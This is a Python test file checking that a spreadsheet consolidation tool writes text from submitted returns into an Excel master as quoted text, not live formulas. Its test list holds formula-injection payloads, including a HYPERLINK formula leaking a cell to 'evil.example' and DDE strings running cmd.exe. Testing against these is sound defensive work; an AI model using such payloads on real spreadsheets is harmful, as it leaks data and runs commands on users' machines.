"""No formula reaches Excel: text from a return goes into the live master as text.

xlwings hands a string to Excel as if typed, so "=HYPERLINK(...)" from a
unit's return would become a live formula in the office's master. These
tests look at what the adapter would send (the in-memory adapter sends the
same values as the xlwings one and records what Excel would have run).
"""

from __future__ import annotations

from datetime import datetime

import pytest
from test_collect_support import UNIT, filled

from pyxl import pipeline
from pyxl.common.files import csv_cell, csv_value
from pyxl.common.period import Period
from pyxl.common.values import looks_like_formula
from pyxl.excel import run_button
from pyxl.master.live import as_excel_holds, excel_values
from pyxl.master.memory import MemoryBook
from pyxl.workspace import Workspace

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "@SUM(1)",
    "=1+1",
    "+1+1",
    "-1+1",
    "=cmd|' /C calc'!A0",  # DDE
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",  # DDE through another server name
    "@cmd|' /C notepad'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
HARMLESS_BUT_CONVERTED = ["2025-06", "00123", "1/2", "TRUE"]  # Excel would make a date, a number, a boolean


@pytest.mark.parametrize("text", INJECTIONS)
def test_one_formula_like_test_for_every_output(text):
    assert looks_like_formula(text)
    assert csv_cell(text).startswith("'") and csv_value(csv_cell(text)) == text  # CSV (ledgers, problem lists)
    assert excel_values([[text]]) == [["'" + text]]  # the live master
    assert as_excel_holds(text) == (text, True)  # sent bare, Excel would have run it


@pytest.mark.parametrize("text", ["普通文字", "资金缺口 -1", "负责人：张三", "'引号开头"])
def test_ordinary_text_is_not_formula_like(text):
    assert not looks_like_formula(text)


def test_every_text_is_sent_with_the_quote_prefix_and_excel_keeps_it_as_typed(tmp_path):
    book = MemoryBook(tmp_path / "m.xlsm", {})
    rows = [["文字", 3, None, 2.5], *[[text] for text in INJECTIONS + HARMLESS_BUT_CONVERTED]]
    book.write_table("问题", rows)
    assert book.sent["问题"][0] == ["'文字", 3, None, 2.5]  # numbers and empty cells as they are
    assert all(row[0] == "'" + text for row, text in zip(book.sent["问题"][1:], INJECTIONS + HARMLESS_BUT_CONVERTED))
    assert book.formulas == []
    assert [row[0] for row in book.read_table("问题")[1:]] == INJECTIONS + HARMLESS_BUT_CONVERTED


def test_returns_full_of_injections_reach_the_master_as_text_through_the_buttons(settings, tmp_path):
    pipeline.build_workbook(Workspace.load(settings), now=datetime(2025, 7, 1, 8, 0, 0))
    pipeline.split_sheets(Workspace.load(settings), Period(2025, 6), units=[UNIT])
    source = next((settings.out_dir("2025-06") / "分发").glob(f"*_{UNIT}.xlsx"))

    def inject(book):
        sheet = book.worksheets[0]
        for (column, row), text in zip([(c, r) for r in range(5, 10) for c in "JKL"], INJECTIONS):
            sheet[f"{column}{row}"] = text
            sheet[f"{column}{row}"].data_type = "s"  # typed as text, as a clerk's cell holds it

    filled(source, settings.inbox_dir / "区财政局.xlsx", inject)
    book = MemoryBook.open(settings.workbook_path)
    for button in ("collect_returns", "consolidate_period", "write_report"):
        run_button(book, button, datetime(2025, 7, 10, 9, 0))
        assert "内部错误" not in book.alerts[-1], book.alerts[-1]
    assert book.formulas == []
    sent_texts = [value for rows in book.sent.values() for row in rows for value in row if isinstance(value, str)]
    assert sent_texts and all(value.startswith("'") for value in sent_texts if value)
    problems = book.read_table("问题")
    assert any("=HYPERLINK(" in str(value) for row in problems for value in row)  # reported, as text
